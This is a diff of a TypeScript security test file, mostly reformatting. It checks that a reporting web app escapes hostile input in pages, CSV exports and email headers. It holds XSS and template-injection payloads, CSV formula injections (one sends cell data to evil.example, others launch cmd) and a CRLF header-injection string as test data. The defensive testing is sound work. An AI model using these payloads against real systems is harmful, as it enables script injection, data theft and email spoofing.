@@ -5,16 +5,22 @@
  * the CSV exports, and line breaks must never reach an email header.
  */
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
-import { invoke } from '../../infra/local/lambda.ts';
-import { csrfTokenFor } from '#shared/domain/session';
 import { newPerson } from '#shared/domain/people';
+import { csrfTokenFor } from '#shared/domain/session';
+import { invoke } from '../../infra/local/lambda.ts';
 import { section } from './lib/figures.ts';
 import { cspNonce, decodeEntities, formulaCells, liveMarkup, parseCsv } from './lib/markup.ts';
-import { eventually, priorityIds, startStack, validUpdate, type ResilienceStack, type SentEmail } from './lib/stack.ts';
+import { eventually, priorityIds, type ResilienceStack, type SentEmail, startStack, validUpdate } from './lib/stack.ts';
 
 const figures = section(6, 'Escaping');
-const markup = ['<script>alert("rp")</script>', '"><img src=x onerror=alert(1)>', "'><svg/onload=alert(1)>", '</textarea><script>alert(2)</script>', '{{ 7*7 }}{% if true %}ssti{% endif %}'];
-const formulas = ['=HYPERLINK("http://evil.example/?leak="&A1,"Open")', '+cmd|\' /C calc\'!A0', '-2+3+cmd|\' /C calc\'!A0', '@SUM(1+1)*cmd|\' /C calc\'!A0'];
+const markup = [
+  '<script>alert("rp")</script>',
+  '"><img src=x onerror=alert(1)>',
+  "'><svg/onload=alert(1)>",
+  '</textarea><script>alert(2)</script>',
+  '{{ 7*7 }}{% if true %}ssti{% endif %}',
+];
+const formulas = ['=HYPERLINK("http://evil.example/?leak="&A1,"Open")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0"];
 const headerInjection = 'Quarterly update\r\nBcc: victim@example.org\r\nSubject: spoofed';
 const hostileName = `<script>alert("name")</script> =cmd|' /C calc'!A0 ${headerInjection}`;
 const priorityId = priorityIds[4]!;
@@ -62,7 +68,12 @@ function checkPage(name: string, html: string, csp: string | undefined, shown: r
 
 async function page(path: string, headers: Record<string, string> = {}) {
   const response = await stack.request('GET', path, { headers: { accept: 'text/html', ...headers } });
-  return { status: response.status, html: await response.text(), csp: response.headers.get('content-security-policy') ?? undefined, type: response.headers.get('content-type') ?? '' };
+  return {
+    status: response.status,
+    html: await response.text(),
+    csp: response.headers.get('content-security-policy') ?? undefined,
+    type: response.headers.get('content-type') ?? '',
+  };
 }
 
 describe('hostile text stays inert', () => {
@@ -70,7 +81,9 @@ describe('hostile text stays inert', () => {
     expect(liveMarkup('<p><img src=x onerror=alert(1)></p>')).toHaveLength(1);
     expect(liveMarkup('<a href=" javascript:alert(1)">x</a><script>alert(1)</script>')).toHaveLength(2);
     expect(liveMarkup('<script nonce="n1">ok()</script>', 'n1')).toEqual([]);
-    expect(liveMarkup('<p>&lt;script&gt;alert(1)&lt;/script&gt;</p><input value="&quot;><img src=x onerror=alert(1)>"><textarea><script>x</script></textarea>')).toEqual([]);
+    expect(
+      liveMarkup('<p>&lt;script&gt;alert(1)&lt;/script&gt;</p><input value="&quot;><img src=x onerror=alert(1)>"><textarea><script>x</script></textarea>'),
+    ).toEqual([]);
     expect(formulaCells(parseCsv('\uFEFF"a","=1+1"\r\n"\'=2","-3"\r\n'))).toEqual(['=1+1', '-3']);
   });
 
@@ -78,12 +91,19 @@ describe('hostile text stays inert', () => {
     // Prepare: a browser session from the personal link, and a person with a hostile name.
     const link = await stack.request('GET', `/priorities/${priorityId}/updates/new?token=${encodeURIComponent(token)}`, { headers: { accept: 'text/html' } });
     const sessionId = /rp_session=([^;]+)/.exec(link.headers.getSetCookie().join('\n'))?.[1] ?? '';
-    const person = newPerson({ name: '<script>alert("person")</script> "><img src=x onerror=alert(1)>', email: 'hostile.person@example.org', role: 'sponsor', priorityId });
+    const person = newPerson({
+      name: '<script>alert("person")</script> "><img src=x onerror=alert(1)>',
+      email: 'hostile.person@example.org',
+      role: 'sponsor',
+      priorityId,
+    });
     await stack.stores.people.save(person);
     // A board member with a hostile name responds to the hostile barrier with hostile text.
     const boardToken = await stack.boardToken({ name: hostileName });
     const barrierId = `${updateId}-1`;
-    await eventually('the hostile barrier in the log', async () => (await stack.stores.barriers.list(priorityId)).some((barrier) => barrier.barrierId === barrierId));
+    await eventually('the hostile barrier in the log', async () =>
+      (await stack.stores.barriers.list(priorityId)).some((barrier) => barrier.barrierId === barrierId),
+    );
     const responded = await stack.request('POST', `/priorities/${priorityId}/barriers/${barrierId}/responses`, {
       headers: { 'content-type': 'application/json', authorization: `Bearer ${boardToken}` },
       body: JSON.stringify({ decision: `${markup.join(' ')} ${formulas[3]}`, owner: markup[4], dueDate: '2021-04-30' }),
@@ -98,7 +118,13 @@ describe('hostile text stays inert', () => {
     const form = await page(`/priorities/${priorityId}/updates/new`, { cookie: `rp_session=${sessionId}` });
     const reshown = await stack.request('POST', `/priorities/${priorityId}/updates`, {
       headers: { 'content-type': 'application/x-www-form-urlencoded', accept: 'text/html', cookie: `rp_session=${sessionId}` },
-      body: new URLSearchParams({ csrfToken: csrfTokenFor(sessionId), status: 'red', summary: markup.join(' '), statusRationale: markup[3]!, achievements: markup.join('\n') }).toString(),
+      body: new URLSearchParams({
+        csrfToken: csrfTokenFor(sessionId),
+        status: 'red',
+        summary: markup.join(' '),
+        statusRationale: markup[3]!,
+        achievements: markup.join('\n'),
+      }).toString(),
     });
     const reshownHtml = await reshown.text();
     const notFound = await page(`/priorities/${encodeURIComponent(markup[0]!)}`);
@@ -113,13 +139,33 @@ describe('hostile text stays inert', () => {
     checkPage('update form re-shown with errors', reshownHtml, reshown.headers.get('content-security-policy') ?? undefined, [markup.join(' '), markup[3]!]);
     checkPage('404 page for a hostile priority id', notFound.html, notFound.csp, []);
     checkPage('preferences page', preferences.html, preferences.csp, ['<script>alert("person")</script>']);
-    checkPage('barriers page with a board member’s session', barriers.html, barriers.csp, [markup[1]!, markup.join(' '), markup[4]!, '<script>alert("name")</script>']);
+    checkPage('barriers page with a board member’s session', barriers.html, barriers.csp, [
+      markup[1]!,
+      markup.join(' '),
+      markup[4]!,
+      '<script>alert("name")</script>',
+    ]);
     const answered = await page(`/priorities/${priorityId}`);
     checkPage('priority page with the board response', answered.html, answered.csp, [markup.join(' ')]);
     figures.record('pages checked', pageChecks, { info: true });
     const liveCount = figures.record('live markup in pages (scripts without the nonce, handlers, javascript: URLs)', live.length, { equals: 0 });
-    figures.record('template syntax evaluated ({{ 7*7 }} shown as 49)', [confirmation.html, priority.html, reshownHtml].filter((html) => /\b49\b|>ssti</.test(decodeEntities(html).replace(/\d{4}-\d\d-\d\dT[^ <]*/g, ''))).length, { equals: 0 });
-    expect([responded.status, confirmation.status, priority.status, dashboard.status, form.status, reshown.status, notFound.status, preferences.status, barriers.status]).toEqual([201, 200, 200, 200, 200, 422, 404, 200, 200]);
+    figures.record(
+      'template syntax evaluated ({{ 7*7 }} shown as 49)',
+      [confirmation.html, priority.html, reshownHtml].filter((html) => /\b49\b|>ssti</.test(decodeEntities(html).replace(/\d{4}-\d\d-\d\dT[^ <]*/g, '')))
+        .length,
+      { equals: 0 },
+    );
+    expect([
+      responded.status,
+      confirmation.status,
+      priority.status,
+      dashboard.status,
+      form.status,
+      reshown.status,
+      notFound.status,
+      preferences.status,
+      barriers.status,
+    ]).toEqual([201, 200, 200, 200, 200, 422, 404, 200, 200]);
     expect(barriers.html).toContain('<form method="post"');
     expect({ liveCount, live }).toEqual({ liveCount: 0, live: [] });
     expect(missing).toEqual([]);
@@ -149,7 +195,13 @@ describe('hostile text stays inert', () => {
 
   it('in emails: the notification, the board response and the digests escape the text, subjects and headers stay single-line, and recipients are only the intended ones', async () => {
     // Prepare: the hostile update is red with barriers for the board, so sponsor, lead and board hear of it.
-    const expected = [`sponsor.${priorityId}@example.org`, `lead.${priorityId}@example.org`, 'board.chair@example.org', 'board.secretariat@example.org', 'hostile.person@example.org'];
+    const expected = [
+      `sponsor.${priorityId}@example.org`,
+      `lead.${priorityId}@example.org`,
+      'board.chair@example.org',
+      'board.secretariat@example.org',
+      'hostile.person@example.org',
+    ];
     const notifications = await eventually('the hostile update’s notifications', async () => {
       const sent = (await stack.emails()).filter((email) => (email.body.text ?? '').includes('hostile-summary'));
       return sent.length >= expected.length - 1 ? sent : undefined;
